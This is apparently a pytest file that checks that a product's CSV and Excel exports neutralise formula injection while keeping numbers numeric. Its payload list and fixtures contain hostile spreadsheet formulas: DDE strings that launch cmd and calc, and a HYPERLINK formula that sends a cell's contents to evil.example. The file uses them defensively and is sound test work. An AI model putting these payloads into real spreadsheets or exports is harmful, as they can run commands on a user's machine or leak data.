"""Exports opened in Excel: no cell the product writes can run as a formula, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile

import pandas as pd
import pytest
from openpyxl import load_workbook

from data.safety import (
    formula_cells_in_csv,
    formula_cells_in_xlsx,
    harden_xlsx_bytes,
    is_formula_like,
    neutralise_cell,
    neutralise_frame,
    restore_cell,
    safe_csv_bytes,
    safe_xlsx_bytes,
)

# Payloads from OWASP's CSV-injection page and friends, plus full-width forms (Excel/WPS on CJK systems).
PAYLOADS = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "  =1+2",
    "＝1+2",
    "＋cmd",
    "－1",
    "＠SUM(A1)",
    "=cmd|' /C notepad'!'A1'",
    "-",
    "'=1+2",  # looks like our own escape: escaped once more so import restores it exactly
    "''+x",
]
SAFE_TEXT = [
    "威海甲公司",
    "碳纤维 🚀",
    "a=b",
    "1+2",
    "x-y",
    "email@example.com",
    "",
    "-5",
    "+3.5",
    "-1,234.5",
    "12%",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_are_neutralised_and_restored(payload):
    escaped = neutralise_cell(payload)
    assert escaped == "'" + payload
    assert not is_formula_like(escaped)
    assert restore_cell(escaped) == payload


@pytest.mark.parametrize("text", SAFE_TEXT)
def test_safe_text_and_signed_numbers_are_untouched(text):
    assert neutralise_cell(text) == text
    assert restore_cell(text) == text


@pytest.mark.parametrize(
    "value", [0, -5, -1.5, 3.0e9, float("nan"), None, True, pd.Timestamp("2026-01-01")]
)
def test_non_text_values_are_untouched(value):
    assert neutralise_cell(value) is value


def hostile_frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "candidate_id": ["E1", "=E2", "E3"],
            "name": ['=HYPERLINK("http://x")', "@SUM(A1)", "威海丙公司"],
            "cost": [-10.5, 0.0, 1234567.0],  # negative numbers stay numbers
            "count": [-1, 2, 3],
            "=evil header": ["a", "+b", "-c"],
        }
    )


def test_csv_export_is_inert_and_numbers_stay_numbers():
    data = safe_csv_bytes(hostile_frame())
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel shows the Chinese text correctly
    text = data.decode("utf-8-sig")
    assert formula_cells_in_csv(text) == []
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][-1] == "'=evil header"
    assert [r[2] for r in rows[1:]] == ["-10.5", "0.0", "1234567.0"]
    assert [r[3] for r in rows[1:]] == ["-1", "2", "3"]
    back = pd.read_csv(io.StringIO(text), dtype=str).map(restore_cell)
    assert back["name"].tolist() == hostile_frame()["name"].tolist()


def test_neutralise_frame_keeps_dtypes():
    frame = hostile_frame()
    out = neutralise_frame(frame)
    assert out["cost"].dtype == frame["cost"].dtype and out["count"].dtype == frame["count"].dtype
    assert out["cost"].tolist() == frame["cost"].tolist()
    assert frame["candidate_id"].tolist()[1] == "=E2"  # the input is not modified


def test_xlsx_export_has_no_formulas_and_keeps_text_and_numbers():
    data = safe_xlsx_bytes({"allocation": hostile_frame()})
    assert formula_cells_in_xlsx(data, strict=True) == []
    ws = load_workbook(io.BytesIO(data))["allocation"]
    assert ws["B2"].value == '=HYPERLINK("http://x")' and ws["B2"].data_type == "s"
    assert ws["B2"].quotePrefix
    assert ws["C2"].value == -10.5 and ws["C2"].data_type == "n"
    assert ws["D2"].value == -1 and ws["D2"].data_type == "n"


def test_harden_xlsx_bytes_turns_pandas_formulas_into_text():
    buffer = io.BytesIO()
    hostile_frame().to_excel(buffer, index=False)  # pandas/openpyxl write "=..." as a formula
    raw = buffer.getvalue()
    assert formula_cells_in_xlsx(raw), "the check must catch what pandas writes"
    safe = harden_xlsx_bytes(raw)
    assert formula_cells_in_xlsx(safe, strict=True) == []
    ws = load_workbook(io.BytesIO(safe)).active
    assert ws["A3"].value == "=E2" and ws["C2"].value == -10.5


def test_checker_finds_formula_elements():
    from openpyxl import Workbook

    book = Workbook()
    book.active["A1"] = "=1+2"
    out = io.BytesIO()
    book.save(out)
    found = formula_cells_in_xlsx(out.getvalue())
    assert any("<f>" in f for f in found) and any("A1" in f for f in found)


# --- The product's own writers -------------------------------------------------------------------

HOSTILE_SHEETS = {
    "budgets": "fund_line,amount,pooled\n=industry,100,Y\nprojects,50,N\n",
    "resources": "resource,capacity,unit\nstaff_days,20,=day\n",
    "targets": "target,goal,weight,unit\n+new_srdi,2,1,@firms\nstarts,1,2,projects\n",
    "candidates": (
        "candidate_id,name,kind,district,base_probability,award,award_line,note\n"
        'E1,=HYPERLINK("http://evil"),enterprise,-环翠区,0.3,30,=industry,@SUM(A1)\n'
        "P1,临港项目,project,文登区,0.5,0,,\"-2+3+cmd|' /C calc'!A0\"\n"
    ),
    "contributions": "candidate_id,target,value\nE1,+new_srdi,1\nP1,starts,1\n",
    "options": (
        "candidate_id,option,probability,fund_line,cost,staff_days\n"
        "E1,=coaching,0.6,=industry,10,2\n"
        "P1,assisted_handling,0.8,,0,5\n"
    ),
}


@pytest.fixture
def hostile_workbook(raw_tables):
    from data.workbook import validate_tables

    return validate_tables(raw_tables(HOSTILE_SHEETS))


def test_workbook_xlsx_export_has_no_formulas(hostile_workbook):
    from data.workbook import read_workbook_upload, workbook_to_xlsx_bytes, workbooks_equal

    data = workbook_to_xlsx_bytes(hostile_workbook)
    assert formula_cells_in_xlsx(data) == []
    assert workbooks_equal(read_workbook_upload("back.xlsx", data), hostile_workbook)


def test_template_has_no_formulas():
    from data.workbook import template_xlsx_bytes

    assert formula_cells_in_xlsx(template_xlsx_bytes()) == []


def test_workbook_csv_export_is_inert(hostile_workbook, tmp_path):
    from data.workbook import write_workbook

    write_workbook(hostile_workbook, tmp_path / "out")
    found = {
        p.name: formula_cells_in_csv(p.read_text(encoding="utf-8-sig"))
        for p in sorted((tmp_path / "out").glob("*.csv"))
    }
    assert {k: v for k, v in found.items() if v} == {}


def test_workbook_csv_zip_export_is_inert_and_reads_back_unchanged(hostile_workbook):
    from data.workbook import read_workbook_upload, workbook_to_csv_zip_bytes, workbooks_equal

    data = workbook_to_csv_zip_bytes(hostile_workbook)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        found = {
            n: formula_cells_in_csv(archive.read(n).decode("utf-8-sig")) for n in archive.namelist()
        }
    assert {k: v for k, v in found.items() if v} == {}
    assert workbooks_equal(read_workbook_upload("back.zip", data), hostile_workbook)


# --- downloads built from a plan (allocation, targets, checklists) and the optimizer's CSV ---------


@pytest.fixture
def hostile_plan(hostile_workbook):
    from optimizer import solve

    result = solve(hostile_workbook, baselines=False)
    assert result.status in ("optimal", "feasible")
    return result


def test_allocation_downloads_are_inert(hostile_plan, hostile_workbook):
    from ui import tables

    resources = hostile_workbook.resource_names
    for lang in ("zh", "en"):
        text = tables.allocation_csv_bytes(hostile_plan.allocation, lang, {}, resources).decode(
            "utf-8-sig"
        )
        assert formula_cells_in_csv(text) == []
        assert "'=HYPERLINK" in text  # the hostile name is there, neutralised
        data = tables.allocation_xlsx_bytes(
            hostile_plan.allocation, lang, {}, resources, hostile_plan.targets
        )
        assert formula_cells_in_xlsx(data, strict=True) == []


def test_district_checklist_csv_is_inert(demo_workbook):
    from reports import checklist

    wb = demo_workbook.copy()
    firms = wb.enterprises.copy()
    assert len(firms), "the demo has an enterprises sheet"
    district = str(firms["district"].iloc[0])
    firms["name"] = firms["name"].astype(object)
    firms.loc[firms["district"] == district, "name"] = '=HYPERLINK("http://evil","点我")'
    wb.enterprises = firms
    data = checklist.district_checklists_bytes(wb, district, fmt="csv", candidates_only=False)
    text = data.decode("utf-8-sig")
    assert formula_cells_in_csv(text) == []


def test_optimizer_cli_allocation_csv_is_inert(hostile_workbook, tmp_path):
    import subprocess
    import sys
    from pathlib import Path

    from data.workbook import write_workbook

    repo = Path(__file__).resolve().parents[1]
    path = tmp_path / "hostile.xlsx"
    write_workbook(hostile_workbook, path)
    out = tmp_path / "allocation.csv"
    proc = subprocess.run(
        [sys.executable, "-m", "optimizer", "solve", str(path), "--out", str(out)],
        cwd=repo,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert proc.returncode == 0, proc.stderr
    assert formula_cells_in_csv(out.read_text(encoding="utf-8-sig")) == []
